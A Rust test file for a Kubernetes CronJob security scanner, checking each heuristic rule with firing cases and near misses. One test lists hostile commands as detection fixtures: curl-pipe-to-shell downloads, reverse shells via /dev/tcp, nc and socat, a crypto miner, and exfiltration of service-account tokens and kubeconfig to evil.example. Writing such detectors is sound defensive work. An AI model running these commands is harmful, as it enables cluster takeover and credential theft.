//! Every heuristic rule (SPEC 3.2): a case that fires and a near miss that must not.

mod common;

use common::*;
use cronwarden::api::{Rule, Severity};
use cronwarden::engine::Settings;
use serde_json::json;

fn sev(objects: &[serde_json::Value], rule: Rule) -> Vec<Severity> {
    evaluate(objects)
        .findings
        .iter()
        .flat_map(|f| f.violations.iter())
        .filter(|v| v.rule == rule)
        .map(|v| v.severity)
        .collect()
}

#[test]
fn clean_cronjob_has_no_finding() {
    let e = evaluate(&[cronjob("apps", "clean")]);
    assert!(e.findings.is_empty(), "{:?}", e.findings);
}

#[test]
fn high_frequency_schedule() {
    let at = |s: &str| with(cronjob("apps", "x"), "/spec/schedule", json!(s));
    assert!(fires(&[at("*/2 * * * *")], Rule::HighFrequencySchedule));
    assert!(fires(&[at("* */6 * * *")], Rule::HighFrequencySchedule));
    assert!(fires(&[at("0,3 * * * *")], Rule::HighFrequencySchedule));
    // A gap across the hour boundary: 58 and 0 are 2 minutes apart.
    assert!(fires(&[at("0,58 * * * *")], Rule::HighFrequencySchedule));
    // Near misses at the 5m default.
    assert!(!fires(&[at("*/5 * * * *")], Rule::HighFrequencySchedule));
    assert!(!fires(&[at("@hourly")], Rule::HighFrequencySchedule));
    assert!(!fires(&[at("0 0 * * 1-5")], Rule::HighFrequencySchedule));
    // An hourly job crossing midnight does not create a short gap.
    assert!(!fires(
        &[at("0 22,23,0 * * *")],
        Rule::HighFrequencySchedule
    ));
    let e = evaluate(&[at("*/2 * * * *")]);
    let v = &e.findings[0].violations[0];
    assert_eq!(
        v.message,
        r#"schedule "*/2 * * * *" fires every 2m, more often than 5m"#
    );
    assert_eq!(v.field.as_deref(), Some("spec.schedule"));
    assert_eq!(v.severity, Severity::Medium);
}

#[test]
fn high_frequency_threshold_is_a_setting_and_per_entry() {
    let cj = with(
        cronjob("apps", "x"),
        "/spec/schedule",
        json!("*/10 * * * *"),
    );
    let settings = Settings {
        min_interval: std::time::Duration::from_secs(900),
        ..Settings::default()
    };
    let e = evaluate_with(std::slice::from_ref(&cj), settings);
    assert_eq!(rules(&e, "apps", "x"), vec![Rule::HighFrequencySchedule]);
    // An entry's minInterval replaces the global threshold for what it matches.
    let b = baseline("apps", "b", json!([{"name": "x", "minInterval": "1m"}]));
    let e = evaluate_with(
        &[cj, b],
        Settings {
            min_interval: std::time::Duration::from_secs(900),
            ..Settings::default()
        },
    );
    assert!(rules(&e, "apps", "x").is_empty());
}

#[test]
fn privileged_job_template() {
    let base = cronjob("apps", "x");
    for (pointer, value) in [
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/privileged",
            json!(true),
        ),
        ("/spec/jobTemplate/spec/template/spec/hostPID", json!(true)),
        ("/spec/jobTemplate/spec/template/spec/hostIPC", json!(true)),
        (
            "/spec/jobTemplate/spec/template/spec/hostNetwork",
            json!(true),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation",
            json!(true),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["NET_ADMIN"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["CAP_SYS_ADMIN"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["ALL"]),
        ),
        // Outside the Pod Security Standards baseline list (SPEC 3.2).
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["SYS_MODULE"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["CHOWN", "dac_read_search"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["cap_bpf"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["SYS_RAWIO"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["NET_RAW"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/seccompProfile",
            json!({"type": "Unconfined"}),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/securityContext",
            json!({"seccompProfile": {"type": "Unconfined"}}),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/appArmorProfile",
            json!({"type": "Unconfined"}),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/securityContext",
            json!({"appArmorProfile": {"type": "Unconfined"}}),
        ),
        (
            "/spec/jobTemplate/spec/template/metadata",
            json!({"annotations": {"container.apparmor.security.beta.kubernetes.io/main": "unconfined"}}),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/procMount",
            json!("Unmasked"),
        ),
    ] {
        assert!(
            fires(
                &[with(base.clone(), pointer, value.clone())],
                Rule::PrivilegedJobTemplate
            ),
            "{pointer}={value}"
        );
    }
    // Near misses: explicit false, harmless capabilities, drop ALL.
    for (pointer, value) in [
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/privileged",
            json!(false),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/hostNetwork",
            json!(false),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation",
            json!(false),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!(["NET_BIND_SERVICE"]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/drop",
            json!(["ALL"]),
        ),
        // Every capability of the PSS baseline list, any spelling.
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add",
            json!([
                "AUDIT_WRITE",
                "CHOWN",
                "DAC_OVERRIDE",
                "FOWNER",
                "FSETID",
                "KILL",
                "MKNOD",
                "NET_BIND_SERVICE",
                "SETFCAP",
                "SETGID",
                "SETPCAP",
                "SETUID",
                "SYS_CHROOT",
                "cap_kill",
                "Cap_Chown"
            ]),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/seccompProfile",
            json!({"type": "RuntimeDefault"}),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/securityContext",
            json!({"seccompProfile": {"type": "Localhost", "localhostProfile": "p.json"}}),
        ),
        (
            "/spec/jobTemplate/spec/template/spec/containers/0/securityContext/procMount",
            json!("Default"),
        ),
        (
            "/spec/jobTemplate/spec/template/metadata",
            json!({"annotations": {"container.apparmor.security.beta.kubernetes.io/main": "runtime/default"}}),
        ),
    ] {
        assert!(
            !fires(
                &[with(base.clone(), pointer, value.clone())],
                Rule::PrivilegedJobTemplate
            ),
            "{pointer}={value}"
        );
    }
    // Init containers count too.
    let init = with(
        base,
        "/spec/jobTemplate/spec/template/spec/initContainers",
        json!([{"name": "init", "image": "registry.example.com/x:1", "securityContext": {"privileged": true}}]),
    );
    assert!(fires(&[init], Rule::PrivilegedJobTemplate));
}

fn host_path(path: &str) -> serde_json::Value {
    with(
        cronjob("apps", "x"),
        "/spec/jobTemplate/spec/template/spec/volumes",
        json!([{"name": "h", "hostPath": {"path": path}}]),
    )
}

#[test]
fn host_path_field_names_the_index_among_all_volumes() {
    let cj = with(
        cronjob("apps", "x"),
        "/spec/jobTemplate/spec/template/spec/volumes",
        json!([
            {"name": "cfg", "configMap": {"name": "c"}},
            {"name": "logs", "hostPath": {"path": "/var/log"}}
        ]),
    );
    let e = evaluate(&[cj]);
    let v: Vec<_> = e.findings[0]
        .violations
        .iter()
        .filter(|v| v.rule == Rule::HostPathMount)
        .collect();
    assert_eq!(v.len(), 1);
    assert_eq!(
        v[0].field.as_deref(),
        Some("spec.jobTemplate.spec.template.spec.volumes[1].hostPath.path")
    );
    assert_eq!(
        v[0].message,
        "volume logs mounts hostPath /var/log (a node path)"
    );
}

#[test]
fn host_path_mount_severity_follows_the_exact_critical_paths() {
    for p in [
        "/",
        "/var/run/docker.sock",
        "/var/run",
        "/var/lib",
        "/var",
        "/run/containerd",
        "/run/containerd/containerd.sock",
        "/var/lib/kubelet",
        "/etc",
        "/etc/kubernetes/pki",
        "/root",
        "/root/.ssh",
        "/proc",
        "/proc/1/ns",
        "/var/lib/etcd",
        "/var/lib/etcd/member",
        "//etc//",
        "/tmp/../etc",
        // SPEC 3.2 (2026-12-03): the full list.
        "/var/lib/kubelet/pki",
        "/var/lib/kubelet/pods",
        "/var/./lib//kubelet/",
        "/var/lib/kubelet/../kubelet/pki",
        "/run/podman/podman.sock",
        "/var/run/podman",
        "/run",
        "/home",
        "/home/dev/.ssh",
        "/sys",
        "/sys/fs/cgroup",
        "/dev",
        "/dev/sda",
        "/boot",
        "/var/lib/docker",
        "/var/lib/containerd",
        "/run/k3s/containerd",
        "/run/k3s",
        "/var/run/crio",
        "/run/cri-dockerd.sock",
        "/srv/app/agent.sock",
        "/etc/kubernetes",
    ] {
        assert_eq!(
            sev(&[host_path(p)], Rule::HostPathMount),
            vec![Severity::Critical],
            "{p}"
        );
    }
    for p in [
        "/var/log",
        "/var/log/app",
        "/data",
        "/opt",
        "/etcd-backup",
        "/rootfs",
        "/homework",
        "/devices",
        "/sysroot",
        "/var/lib/dockerd",
        "/var/lib/kubelet-backup",
        "/srv/socket",
        "/data/../opt",
    ] {
        assert_eq!(
            sev(&[host_path(p)], Rule::HostPathMount),
            vec![Severity::High],
            "{p}"
        );
    }
    // Near miss: other volume types.
    let empty = with(
        cronjob("apps", "x"),
        "/spec/jobTemplate/spec/template/spec/volumes",
        json!([{"name": "e", "emptyDir": {}}]),
    );
    assert!(!fires(&[empty], Rule::HostPathMount));
}

fn command(args: &[&str]) -> serde_json::Value {
    with(
        cronjob("apps", "x"),
        "/spec/jobTemplate/spec/template/spec/containers/0/command",
        json!(args),
    )
}

#[test]
fn suspicious_command_catches_known_tradecraft() {
    for line in [
        vec!["/bin/sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"],
        vec!["sh", "-c", "wget -qO- https://evil.example/i | bash"],
        vec![
            "bash",
            "-c",
            "sh -c \"$(curl -fsSL https://evil.example/i)\"",
        ],
        vec!["sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"],
        vec!["sh", "-c", "eval $(echo ZWNobyBoaQ== | base64 --decode)"],
        vec!["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        vec!["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        vec!["socat", "tcp:10.0.0.1:4444", "exec:/bin/sh"],
        vec!["/opt/xmrig", "--donate-level", "1"],
        vec!["miner", "-o", "stratum+tcp://pool.example:3333"],
        vec![
            "sh",
            "-c",
            "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://evil.example",
        ],
        vec![
            "sh",
            "-c",
            "cat ~/.kube/config | curl -X POST --data-binary @- https://evil.example",
        ],
    ] {
        let cj = command(&line);
        assert_eq!(
            sev(&[cj], Rule::SuspiciousCommand),
            vec![Severity::Critical],
            "{line:?}"
        );
    }
}

#[test]
fn suspicious_command_near_misses() {
    for line in [
        vec!["curl", "-fsS", "https://api.example.com/healthz"],
        vec![
            "sh",
            "-c",
            "curl -o /tmp/report.csv https://reports.example.com/r.csv",
        ],
        vec!["sh", "-c", "echo done | tee /tmp/log"],
        vec!["base64", "-d", "/data/in.b64"],
        vec!["kubectl", "delete", "pod", "-l", "app=old"],
        vec![
            "cat",
            "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
        ],
        vec!["/bin/report", "--nightly"],
    ] {
        assert!(
            !fires(&[command(&line)], Rule::SuspiciousCommand),
            "{line:?}"
        );
    }
}

#[test]
fn mutable_image_reference() {
    let img = |i: &str| {
        with(
            cronjob("apps", "x"),
            "/spec/jobTemplate/spec/template/spec/containers/0/image",
            json!(i),
        )
    };
    assert!(fires(&[img("busybox")], Rule::MutableImageReference));
    assert!(fires(&[img("busybox:latest")], Rule::MutableImageReference));
    assert!(fires(
        &[img("registry.example.com:5000/team/app")],
        Rule::MutableImageReference
    ));
    // Floating tags are tags; digests pin.
    assert!(!fires(
        &[img("busybox:stable")],
        Rule::MutableImageReference
    ));
    assert!(!fires(
        &[img("busybox:latest-gpu")],
        Rule::MutableImageReference
    ));
    assert!(!fires(&[img("busybox:1.36")], Rule::MutableImageReference));
    assert!(!fires(
        &[img(
            "busybox@sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
        )],
        Rule::MutableImageReference
    ));
    assert!(!fires(
        &[img(
            "busybox:latest@sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
        )],
        Rule::MutableImageReference
    ));
}

#[test]
fn unapproved_registry_only_with_an_allowlist() {
    let img = |i: &str| {
        with(
            cronjob("apps", "x"),
            "/spec/jobTemplate/spec/template/spec/containers/0/image",
            json!(i),
        )
    };
    let allow = Settings {
        registry_allowlist: vec!["registry.example.com".into(), "*.corp.example".into()],
        ..Settings::default()
    };
    let e = evaluate_with(&[img("ghcr.io/evil-org/tool:1.0")], allow.clone());
    assert_eq!(rules(&e, "apps", "x"), vec![Rule::UnapprovedRegistry]);
    // Docker Hub short names are docker.io.
    let e = evaluate_with(&[img("alpine:3.20")], allow.clone());
    assert_eq!(rules(&e, "apps", "x"), vec![Rule::UnapprovedRegistry]);
    for ok in [
        "registry.example.com/team/app:1",
        "mirror.corp.example/lib/x:2",
    ] {
        let e = evaluate_with(&[img(ok)], allow.clone());
        assert!(rules(&e, "apps", "x").is_empty(), "{ok}");
    }
    // No allowlist: the rule is off.
    assert!(!fires(
        &[img("ghcr.io/evil-org/tool:1.0")],
        Rule::UnapprovedRegistry
    ));
}

#[test]
fn sensitive_namespace_unless_approved() {
    for ns in ["kube-system", "kube-public", "kube-node-lease"] {
        assert!(fires(&[cronjob(ns, "x")], Rule::SensitiveNamespace), "{ns}");
    }
    assert!(!fires(
        &[cronjob("kube-systemd", "x")],
        Rule::SensitiveNamespace
    ));
    // Only the cluster tier vouches for a system namespace (SPEC 2.2).
    let local = baseline("kube-system", "sys", json!([{"name": "x"}]));
    assert!(fires(
        &[cronjob("kube-system", "x"), local],
        Rule::SensitiveNamespace
    ));
    let approved = cluster_baseline("sys", None, json!([{"name": "x"}]));
    assert!(!fires(
        &[cronjob("kube-system", "x"), approved],
        Rule::SensitiveNamespace
    ));
}

#[test]
fn history_erasure() {
    let zero = with(
        with(
            cronjob("apps", "x"),
            "/spec/successfulJobsHistoryLimit",
            json!(0),
        ),
        "/spec/failedJobsHistoryLimit",
        json!(0),
    );
    assert!(fires(&[zero], Rule::HistoryErasure));
    let ttl = with(
        cronjob("apps", "x"),
        "/spec/jobTemplate/spec/ttlSecondsAfterFinished",
        json!(30),
    );
    assert!(fires(&[ttl], Rule::HistoryErasure));
    // Near misses: one limit kept, TTL of a minute.
    let one = with(
        with(
            cronjob("apps", "x"),
            "/spec/successfulJobsHistoryLimit",
            json!(0),
        ),
        "/spec/failedJobsHistoryLimit",
        json!(1),
    );
    assert!(!fires(&[one], Rule::HistoryErasure));
    let minute = with(
        cronjob("apps", "x"),
        "/spec/jobTemplate/spec/ttlSecondsAfterFinished",
        json!(60),
    );
    assert!(!fires(&[minute], Rule::HistoryErasure));
}

#[test]
fn heuristics_can_be_disabled_and_waived_but_not_by_annotations() {
    let bad = with(
        host_path("/"),
        "/metadata/annotations",
        json!({"cronwarden.io/ignore": "true"}),
    );
    assert!(
        fires(std::slice::from_ref(&bad), Rule::HostPathMount),
        "annotations never silence"
    );
    let off = Settings {
        disabled_rules: [Rule::HostPathMount].into(),
        ..Settings::default()
    };
    assert!(
        evaluate_with(std::slice::from_ref(&bad), off)
            .findings
            .is_empty()
    );
    // The platform may waive it from an entry naming the namespace (a
    // team may not, nor may an entry any CronJob can match by name:
    // tests/tiers.rs).
    let waived = cluster_baseline(
        "platform",
        None,
        json!([{"name": "x", "namespaces": ["apps"], "waive": ["HostPathMount"]}]),
    );
    assert!(evaluate(&[bad.clone(), waived]).findings.is_empty());
    let unscoped = cluster_baseline(
        "platform",
        None,
        json!([{"name": "x", "waive": ["HostPathMount"]}]),
    );
    assert!(fires(&[bad.clone(), unscoped], Rule::HostPathMount));
    // A waiver covers only what its entry matches.
    let other = cluster_baseline(
        "platform",
        None,
        json!([{"name": "y", "namespaces": ["apps"], "waive": ["HostPathMount"]}, {"name": "x"}]),
    );
    assert!(fires(&[bad, other], Rule::HostPathMount));
}

#[test]
fn severity_overrides_entry_then_global() {
    let cj = host_path("/data");
    let global = Settings {
        severity_overrides: [(Rule::HostPathMount, Severity::Low)].into(),
        ..Settings::default()
    };
    let e = evaluate_with(std::slice::from_ref(&cj), global.clone());
    assert_eq!(e.findings[0].severity, Severity::Low);
    let b = baseline(
        "apps",
        "b",
        json!([{"name": "x", "severityOverrides": {"HostPathMount": "critical"}}]),
    );
    let e = evaluate_with(&[cj, b], global);
    assert_eq!(e.findings[0].severity, Severity::Critical);
}

#[test]
fn disabling_a_baseline_rule_is_refused() {
    let s = Settings {
        disabled_rules: [Rule::NotInBaseline].into(),
        ..Settings::default()
    };
    assert!(cronwarden::engine::Engine::new(s).is_err());
}
